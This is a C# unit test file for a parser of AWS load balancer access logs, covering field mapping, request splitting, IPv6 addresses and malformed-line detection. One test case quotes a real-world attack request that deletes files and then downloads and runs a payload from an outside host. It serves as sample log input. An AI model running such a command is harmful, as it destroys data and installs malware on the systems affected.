using System.Text;
using AlbLogLambda.Core.Parsing;

namespace AlbLogLambda.Core.Tests.Parsing;

public class AlbLogParserTests
{
    private static (LineVerdict Verdict, LineProblem Problem) Judge(string line) =>
        (AlbLogParser.Parse(Encoding.UTF8.GetBytes(line), out _, out var problem), problem);

    private static string S(ReadOnlySpan<byte> field) => Encoding.UTF8.GetString(field);

    [Fact]
    public void Parse_Http200WithAllFields_MapsEveryFieldInOrder()
    {
        var line = Encoding.UTF8.GetBytes(TestLines.Line());

        Assert.Equal(LineVerdict.Entry, AlbLogParser.Parse(line, out var r, out _));
        Assert.Equal("http", S(r.Type));
        Assert.Equal("2026-11-24T10:03:12.123456Z", S(r.Time));
        Assert.Equal(TestLines.Elb, S(r.Elb));
        Assert.Equal("198.51.100.7:51234", S(r.Client));
        Assert.Equal("10.0.1.12:8080", S(r.Target));
        Assert.Equal("0.001", S(r.RequestProcessingTime));
        Assert.Equal("0.012", S(r.TargetProcessingTime));
        Assert.Equal("0.000", S(r.ResponseProcessingTime));
        Assert.Equal(200, r.ElbStatusCode);
        Assert.Equal(200, r.TargetStatusCode);
        Assert.Equal("120", S(r.ReceivedBytes));
        Assert.Equal("560", S(r.SentBytes));
        Assert.Equal("GET http://www.example.com:80/orders?id=42 HTTP/1.1", S(r.Request));
        Assert.Equal("curl/8.4.0", S(r.UserAgent));
        Assert.True(r.SslCipher.IsEmpty);
        Assert.Equal(TestLines.TargetGroup, S(r.TargetGroupArn));
        Assert.Equal("0", S(r.MatchedRulePriority));
        Assert.Equal("2026-11-24T10:03:12.110000Z", S(r.RequestCreationTime));
        Assert.Equal("forward", S(r.ActionsExecuted));
        Assert.True(r.ErrorReason.IsEmpty);
        Assert.Equal("10.0.1.12:8080", S(r.TargetPortList));
        Assert.Equal("200", S(r.TargetStatusCodeList));
        Assert.Equal("TID_37acbe0641d1c34287fee137ef3a5286", S(r.ConnTraceId));
        Assert.Equal(30, r.FieldCount);
        Assert.Equal(0, r.ExtraFieldCount);
    }

    [Theory]
    [InlineData("http")]
    [InlineData("https")]
    [InlineData("h2")]
    [InlineData("grpcs")]
    [InlineData("ws")]
    [InlineData("wss")]
    [InlineData("h3")]
    public void Parse_EveryRequestType_IsAnEntry(string type)
    {
        Assert.Equal((LineVerdict.Entry, LineProblem.None), Judge(TestLines.Line(type: type)));
    }

    [Fact]
    public void Parse_MalformedRequestLine_IsStillAnEntryWithMinusOneTimings()
    {
        var line = Encoding.UTF8.GetBytes(TestLines.Line(target: "-", times: "-1 -1 -1", status: "400 -", request: "- - -", targetGroup: "-", actions: "-"));

        Assert.Equal(LineVerdict.Entry, AlbLogParser.Parse(line, out var r, out _));
        Assert.Equal(400, r.ElbStatusCode);
        Assert.Equal(-1, r.TargetStatusCode);
        Assert.True(r.Target.IsEmpty);
        Assert.Equal(-1, AlbFieldValues.Seconds(r.RequestProcessingTime));
        Assert.Equal("- - -", S(r.Request));
        AlbFieldValues.SplitRequest(r.Request, out var method, out var url, out var version);
        Assert.Equal(("-", "-", "-"), (S(method), S(url), S(version)));
    }

    [Theory]
    [InlineData("GET https://example.com:443/a?b HTTP/1.1", "GET", "https://example.com:443/a?b", "HTTP/1.1")]
    [InlineData("GET https://example.com:443/a HTTP/1.0 ", "GET", "https://example.com:443/a", "HTTP/1.0")]
    [InlineData("- http://www.example.com:80- -", "-", "http://www.example.com:80-", "-")]
    [InlineData("GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tk/jaws;sh+/tmp/jaws HTTP/1.1", "GET", "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tk/jaws;sh+/tmp/jaws", "HTTP/1.1")]
    [InlineData("- http://internal-service-alb.example.com:80-/ ", "-", "http://internal-service-alb.example.com:80-/", "")]
    public void SplitRequest_RealWorldRequestShapes_SplitsOnFirstAndLastSpace(string request, string method, string url, string version)
    {
        AlbFieldValues.SplitRequest(Encoding.UTF8.GetBytes(request), out var m, out var u, out var v);
        Assert.Equal((method, url, version), (S(m), S(u), S(v)));
    }

    [Theory]
    [InlineData("2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718", "2a02:a33c:4538:1:bcf4:5264:e01c:f215", 50718)]
    [InlineData("[2001:db8::1]:443", "2001:db8::1", 443)]
    [InlineData("10.0.1.12:8080", "10.0.1.12", 8080)]
    [InlineData("10.0.1.12", "10.0.1.12", -1)]
    public void HostAndPort_Ipv4AndIpv6_SplitOnTheLastColon(string value, string host, int port)
    {
        var bytes = Encoding.UTF8.GetBytes(value);
        Assert.Equal(host, S(AlbFieldValues.Host(bytes)));
        Assert.Equal(port, AlbFieldValues.Port(bytes));
    }

    [Fact]
    public void Parse_Ipv6ClientAndTarget_IsAnEntry()
    {
        var line = TestLines.Line(client: "2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718", target: "[2600:1f18:1234::5]:443");

        Assert.Equal(LineVerdict.Entry, AlbLogParser.Parse(Encoding.UTF8.GetBytes(line), out var r, out _));
        Assert.Equal(443, AlbFieldValues.Port(r.Target));
    }

    [Fact]
    public void Parse_TwelveFieldsOnly_IsAnEntryWithLaterFieldsAbsent()
    {
        var line = "h2 2026-11-24T10:03:12.123456Z app/my-alb/50dc6c495c0c9188 198.51.100.7:51234 10.0.1.12:8080 0.001 0.002 0.000 502 502 120 560";

        Assert.Equal(LineVerdict.Entry, AlbLogParser.Parse(Encoding.UTF8.GetBytes(line), out var r, out _));
        Assert.Equal(12, r.FieldCount);
        Assert.True(r.Request.IsEmpty);
        Assert.True(r.ErrorReason.IsEmpty);
    }

    [Fact]
    public void Parse_ElevenFields_IsMalformedTooFewFields()
    {
        var line = "h2 2026-11-24T10:03:12.123456Z app/my-alb/50dc6c495c0c9188 198.51.100.7:51234 10.0.1.12:8080 0.001 0.002 0.000 502 502 120";

        Assert.Equal((LineVerdict.Malformed, LineProblem.TooFewFields), Judge(line));
    }

    [Theory]
    [InlineData(25)]
    [InlineData(29)]
    [InlineData(30)]
    [InlineData(33)]
    public void Parse_HistoricFieldCounts_AreEntries(int fields)
    {
        // The full 33-field line, cut after the given number of fields (older formats end earlier).
        var full = TestLines.Line(errorReason: "LambdaUnhandled", tail: "\"-\" \"-\" TID_37acbe0641d1c34287fee137ef3a5286 \"-\" \"-\" \"-\"");
        int end = -1;
        for (int field = 0; field < fields; field++)
        {
            int start = end + 1;
            end = full[start] == '"' ? full.IndexOf('"', start + 1) + 1 : full.IndexOf(' ', start);
            if (end < 0) end = full.Length;
        }
        var line = full[..end];

        Assert.Equal(LineVerdict.Entry, AlbLogParser.Parse(Encoding.UTF8.GetBytes(line), out var r, out _));
        Assert.Equal(fields, r.FieldCount);
        Assert.Equal("LambdaUnhandled", S(r.ErrorReason));
        Assert.Equal(fields >= 30, !r.ConnTraceId.IsEmpty);
        Assert.Equal(0, r.ExtraFieldCount);
    }

    [Fact]
    public void Parse_ExtraUnknownTrailingFields_AreCountedNotFatal()
    {
        var line = TestLines.Line(tail: "\"-\" \"-\" TID_37acbe0641d1c34287fee137ef3a5286 \"-\" \"-\" \"-\" \"-\" \"-\" \"-\"");

        Assert.Equal(LineVerdict.Entry, AlbLogParser.Parse(Encoding.UTF8.GetBytes(line), out var r, out _));
        Assert.Equal(36, r.FieldCount);
        Assert.Equal(3, r.ExtraFieldCount);
    }

    [Fact]
    public void Parse_NoConnTraceId_IsAnEntryWithoutIt()
    {
        var line = TestLines.Line(tail: "\"-\" \"-\"");

        Assert.Equal(LineVerdict.Entry, AlbLogParser.Parse(Encoding.UTF8.GetBytes(line), out var r, out _));
        Assert.Equal(29, r.FieldCount);
        Assert.True(r.ConnTraceId.IsEmpty);
    }

    [Theory]
    [InlineData("http 2025-10-31T12:44:58.901409Z 1.121980746 172.31.31.9:80 HCLogsTestIPs FAIL 502 TargetError", LineProblem.HealthCheckLogLine)]
    [InlineData("2026-11-24T10:03:12.123456Z 198.51.100.7 51234 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 0.004 - - Success TID_x", LineProblem.ConnectionOrClassicLogLine)]
    [InlineData("2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 \"GET http://www.example.com:80/ HTTP/1.1\"", LineProblem.ConnectionOrClassicLogLine)]
    [InlineData("tls 2.0 2026-11-24T10:03:12 net/my-nlb/c6e77e28c25b2234 g3d4b5e8bb8464cd 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - - - - - - - - - -", LineProblem.NetworkLoadBalancerLogLine)]
    [InlineData("Enable AccessLog for ELB: app/my-alb/50dc6c495c0c9188 at 2026-11-24T09:55:52.806Z", LineProblem.AccessLogTestFileLine)]
    public void Parse_LinesOfOtherLogKinds_AreForeignNotMalformed(string line, LineProblem kind)
    {
        Assert.Equal((LineVerdict.Foreign, kind), Judge(line));
    }

    [Theory]
    [InlineData("garbage", LineProblem.BadTime)]
    [InlineData("GET / HTTP/1.1", LineProblem.BadType)]
    [InlineData("http 2026-11-24 app/x", LineProblem.BadTime)]
    [InlineData("http 2026-11-24T10:03:12.123456Z net/x/y 1 2 3 4 5 6 7 8 9", LineProblem.BadLoadBalancer)]
    public void Parse_LinesThatAreNoEntry_AreMalformedWithAReason(string line, LineProblem problem)
    {
        Assert.Equal((LineVerdict.Malformed, problem), Judge(line));
    }

    [Theory]
    [InlineData("5O2 -", LineProblem.BadElbStatusCode)]
    [InlineData("50 -", LineProblem.BadElbStatusCode)]
    [InlineData("5021 -", LineProblem.BadElbStatusCode)]
    [InlineData("502 ...", LineProblem.BadTargetStatusCode)]
    [InlineData("502 2OO", LineProblem.BadTargetStatusCode)]
    [InlineData("5O2 2OO", LineProblem.BadElbStatusCode)] // the first bad field is the one named
    public void Parse_StatusCodeNeitherThreeDigitsNorDash_IsMalformedNamingTheField(string status, LineProblem problem)
    {
        Assert.Equal((LineVerdict.Malformed, problem), Judge(TestLines.Line(status: status)));
    }

    [Theory]
    [InlineData("120 560")]
    [InlineData("0 0")]
    [InlineData("- -")]
    [InlineData("23172 679")]
    public void Parse_ByteCountsThatAreNumbersOrDash_AreAnEntry(string bytes)
    {
        Assert.Equal((LineVerdict.Entry, LineProblem.None), Judge(TestLines.Line().Replace(" 120 560 ", $" {bytes} ", StringComparison.Ordinal)));
    }

    [Theory]
    [InlineData("... 560", LineProblem.BadReceivedBytes)]
    [InlineData("12O 560", LineProblem.BadReceivedBytes)]
    [InlineData("-1 560", LineProblem.BadReceivedBytes)]
    [InlineData("120 5.6", LineProblem.BadSentBytes)]
    [InlineData("120 ...", LineProblem.BadSentBytes)]
    public void Parse_ByteCountNeitherNumberNorDash_IsMalformedNamingTheField(string bytes, LineProblem problem)
    {
        Assert.Equal((LineVerdict.Malformed, problem), Judge(TestLines.Line().Replace(" 120 560 ", $" {bytes} ", StringComparison.Ordinal)));
    }

    /// <summary>
    /// The Knowledge Center's keep-alive example as people quote it shortened with "...": once without sent_bytes (the
    /// quoted request lands where a number belongs), once with "..." in place of the byte counts. Neither is an entry.
    /// </summary>
    [Theory]
    [InlineData("http 2022-04-15T16:52:50.757968Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.001 4.205 -1 502 - 94 \"GET http://example.com:80 HTTP/1.1\" \"curl/7.51.0\" ...",
        LineProblem.BadSentBytes, "field 12 (sent_bytes) is neither a whole number nor -")]
    [InlineData("http 2022-04-15T16:52:50.757968Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.001 4.205 -1 502 - ... \"GET http://example.com:80 HTTP/1.1\" \"curl/7.51.0\" - - arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 ...",
        LineProblem.BadReceivedBytes, "field 11 (received_bytes) is neither a whole number nor -")]
    public void Parse_LinesShortenedWithEllipsis_AreMalformedNamingTheField(string line, LineProblem problem, string reason)
    {
        Assert.Equal((LineVerdict.Malformed, problem), Judge(line));
        Assert.Equal(reason, LineProblemText.Describe(problem));
    }

    [Theory]
    [InlineData("")]
    [InlineData("   ")]
    public void Parse_BlankLine_IsBlank(string line)
    {
        Assert.Equal(LineVerdict.Blank, Judge(line).Verdict);
    }

    [Fact]
    public void Parse_QuotedTokenRunningIntoMatchedRulePriority_KeepsPositions()
    {
        // The doc typo seen in the beats fixture: no space between "-" and matched_rule_priority.
        var line = TestLines.Line().Replace("\"-\" \"-\" 0 2026", "\"-\" \"-\"0 2026", StringComparison.Ordinal);

        Assert.Equal(LineVerdict.Entry, AlbLogParser.Parse(Encoding.UTF8.GetBytes(line), out var r, out _));
        Assert.Equal("0", S(r.MatchedRulePriority));
        Assert.Equal("2026-11-24T10:03:12.110000Z", S(r.RequestCreationTime));
    }

    [Theory]
    [InlineData("-1", -1.0)]
    [InlineData("-1.0", -1.0)]
    [InlineData("0.001", 0.001)]
    [InlineData("4.205", 4.205)]
    public void Seconds_DecimalForms_Parse(string text, double expected)
    {
        Assert.Equal(expected, AlbFieldValues.Seconds(Encoding.UTF8.GetBytes(text)));
    }

    [Fact]
    public void TryParseTime_MicrosecondTimestamp_ParsesAsUtc()
    {
        Assert.True(AlbFieldValues.TryParseTime("2026-11-24T10:03:12.123456Z"u8, out var time));
        Assert.Equal(new DateTimeOffset(2026, 11, 24, 10, 3, 12, TimeSpan.Zero).AddTicks(1_234_560), time);
        Assert.False(AlbFieldValues.TryParseTime("2026-13-24T10:03:12.123456Z"u8, out _));
    }
}
